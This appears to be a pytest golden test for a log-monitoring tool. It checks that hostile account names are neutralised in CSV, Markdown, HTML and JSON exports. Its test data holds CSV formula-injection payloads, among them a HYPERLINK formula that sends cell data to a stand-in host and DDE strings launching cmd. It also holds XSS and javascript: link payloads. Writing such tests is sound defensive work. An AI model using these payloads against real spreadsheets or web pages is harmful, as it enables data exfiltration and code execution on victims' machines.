"""Golden test: hostile account names through every export format (report csv/md/html/json,
``logward audit export`` csv/json, the dashboard's ``/audit/export`` csv/json)."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from logward.cli import main
from monitor import AuditLog, open_store

# name -> the cell a spreadsheet must receive (OWASP: formula starters get a leading ')
HOSTILE = {
    '=HYPERLINK("http://evil.invalid/?x="&A1,"open")': '\'=HYPERLINK("http://evil.invalid/?x="&A1,"open")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "\uff1d1+1": "'\uff1d1+1",
    "<img src=x onerror=alert(1)>": "<img src=x onerror=alert(1)>",
    "a|b\nc": "a|b\nc",
    "[x](javascript:alert(1))": "[x](javascript:alert(1))",
    "svc/backup": "svc/backup",
}


@pytest.fixture
def hostile(tmp_path, filled, clock):
    """The dashboard's store, plus revocations and reinstatements of hostile accounts."""
    conn = open_store(tmp_path)
    audit = AuditLog(conn)
    with conn:
        for i, name in enumerate(HOSTILE):
            conn.execute(
                "INSERT INTO revocations (account, state, mode, revoked_at, alert_id, rule)"
                " VALUES (?, 'revoked', 'until_reviewed', ?, ?, 'brute-force-ip')",
                (name, clock.now - 100 + i, filled.alert_ids[0]),
            )
    for name in HOSTILE:
        audit.append("cli:root", "reinstate", name, {"reason": "verified"})
    conn.close()
    return tmp_path


def _report(data_dir, fmt, tmp_path, capsys) -> dict[str, str]:
    out = tmp_path / f"report-{fmt}"
    main(["report", "--data-dir", str(data_dir), "--since", "2000-01-01", "--format", fmt,
          "--output", str(out)])  # fmt: skip
    capsys.readouterr()
    if fmt == "csv":
        return {p.name: p.read_bytes().decode("utf-8") for p in out.iterdir()}
    return {fmt: out.read_text(encoding="utf-8")}


def _csv_column(text: str, column: str) -> list[str]:
    return [row[column] for row in csv.DictReader(io.StringIO(text, newline=""))]


def _assert_csv_cells(cells: list[str]) -> None:
    for name, expected in HOSTILE.items():
        assert expected in cells, name
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d"))


def test_report_csv_neutralises_formulas(hostile, tmp_path, capsys):
    """revocations.csv and reinstatements.csv carry every hostile name, formulas prefixed."""
    parts = _report(hostile, "csv", tmp_path, capsys)
    _assert_csv_cells(_csv_column(parts["revocations.csv"], "account"))
    _assert_csv_cells(_csv_column(parts["reinstatements.csv"], "account"))


def test_report_md_escapes_html_and_table_syntax(hostile, tmp_path, capsys):
    """No raw HTML, no link syntax, no extra column or row from a name in the Markdown report."""
    text = _report(hostile, "md", tmp_path, capsys)["md"]
    assert "<img" not in text
    assert "&lt;img src=x onerror=alert(1)&gt;" in text
    assert "\\[x\\](javascript:alert(1))" in text
    assert "a\\|b<br>c" in text
    for table in re.findall(r"(?:^\|.*\n)+", text, flags=re.M):
        widths = {len(re.findall(r"(?<!\\)\|", line)) for line in table.splitlines()}
        assert 1 == len(widths), table


def test_report_html_escapes(hostile, tmp_path, capsys):
    """The HTML report shows every name as text."""
    text = _report(hostile, "html", tmp_path, capsys)["html"]
    assert "<img src=x" not in text
    assert "&lt;img src=x onerror=alert(1)&gt;" in text


def test_report_json_round_trips_names(hostile, tmp_path, capsys):
    """JSON keeps names exactly (it is data, not a spreadsheet)."""
    doc = json.loads(_report(hostile, "json", tmp_path, capsys)["json"])
    accounts = {r["account"] for r in doc["sections"]["revocations"]}
    assert set(HOSTILE) <= accounts


def test_audit_export_csv_and_json(hostile, tmp_path, capsys):
    """``logward audit export``: csv subject cells neutralised, json exact."""
    out = tmp_path / "audit.csv"
    assert 0 == main(["audit", "export", "--data-dir", str(hostile), "--format", "csv",
                      "--since", "2000-01-01", "--output", str(out)])  # fmt: skip
    subjects = _csv_column(out.read_bytes().decode("utf-8"), "subject")
    _assert_csv_cells(subjects)
    assert 0 == main(["audit", "export", "--data-dir", str(hostile), "--format", "json",
                      "--since", "2000-01-01"])  # fmt: skip
    rows = json.loads(capsys.readouterr().out)
    assert set(HOSTILE) <= {r["subject"] for r in rows}


def test_dashboard_export_csv_and_json(hostile, responder):
    """The dashboard's /audit/export writes the same neutralised cells as the CLI."""
    response = responder.get("/audit/export", params={"format": "csv"})
    assert 200 == response.status_code
    _assert_csv_cells(_csv_column(response.text, "subject"))
    rows = responder.get("/audit/export", params={"format": "json"}).json()
    assert set(HOSTILE) <= {r["subject"] for r in rows}
